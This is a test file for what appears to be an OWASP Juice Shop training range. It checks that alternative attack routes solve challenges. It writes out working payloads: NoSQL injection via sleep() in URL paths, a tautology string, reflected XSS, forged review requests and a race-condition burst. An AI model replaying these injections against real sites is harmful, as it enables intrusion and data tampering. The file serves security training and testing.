import { expect, it } from 'vitest'
import { SCRIPT_FRAME } from '#range/evidence/payloads.ts'
import { becomeShopper } from '#range/shopper.ts'
import { createVisitor, type Visitor } from '#range/visitor.ts'
import { openRange } from './support/open-range.ts'

/** Other ways than those of the exploits, as walkthroughs have them. */
const OTHER_WAYS: [key: string, way: string, go: (customer: Visitor) => Promise<unknown>][] = [
  [
    'forgedReviewChallenge',
    'a review of the administrator’s in other words',
    async (customer) => {
      const { data } = (await customer.get('/rest/products/1/reviews')).json<{ data: { _id: string }[] }>()
      await customer.patch('/rest/products/reviews', { id: data[0]?._id, message: 'Watery.' })
    },
  ],
  [
    'forgedReviewChallenge',
    'a review in the name of somebody else, while signed in',
    (customer) => customer.put('/rest/products/1/reviews', { message: 'Watery.', author: 'jim@juice-sh.op' }),
  ],
  [
    'timingAttackChallenge',
    'three likes at once',
    async (customer) => {
      const { data } = (await customer.get('/rest/products/3/reviews')).json<{ data: { _id: string }[] }>()
      await Promise.all([1, 2, 3].map(() => customer.post('/rest/products/reviews', { id: data[0]?._id })))
    },
  ],
  ['noSqlCommandChallenge', 'many short naps', (customer) => customer.get('/rest/products/sleep(100)/reviews')],
  [
    'noSqlCommandChallenge',
    'a nap for each review of one product',
    (customer) => customer.get('/rest/products/1%20&&%20sleep(2000)/reviews'),
  ],
  [
    'noSqlOrdersChallenge',
    'a comparison in place of a truth',
    (customer) => customer.get(`/rest/track-order/${encodeURIComponent("'||'a'=='a")}`),
  ],
  [
    'reflectedXssChallenge',
    'the payload behind a number',
    (customer) => customer.get(`/rest/track-order/${encodeURIComponent(`5267-${SCRIPT_FRAME}`)}`),
  ],
  [
    'dlpPastebinDataLeakChallenge',
    'feedback, signed by the page',
    async (customer) => {
      const captcha = (await customer.get('/rest/captcha/')).json<{ captchaId: number; answer: string }>()
      const comment = 'Hueteroneel and Eurogium Edule must not meet (***rsty@example.org)'
      await customer.post('/api/Feedbacks/', { ...captcha, captcha: captcha.answer, comment, rating: 1 })
    },
  ],
  [
    'leakedApiKeyChallenge',
    'a complaint',
    (customer) => customer.post('/api/Complaints/', { message: '6PPi37DBxP4lDwlriuaxP15HaDJpsUXY5TspVmie' }),
  ],
]

it.each(OTHER_WAYS)('%s is also solved by %s', async (key, _way, go) => {
  await using range = await openRange()
  const customer = createVisitor(range.url)
  await becomeShopper(customer)
  await go(customer)
  expect(await range.solved()).toEqual([key])
})
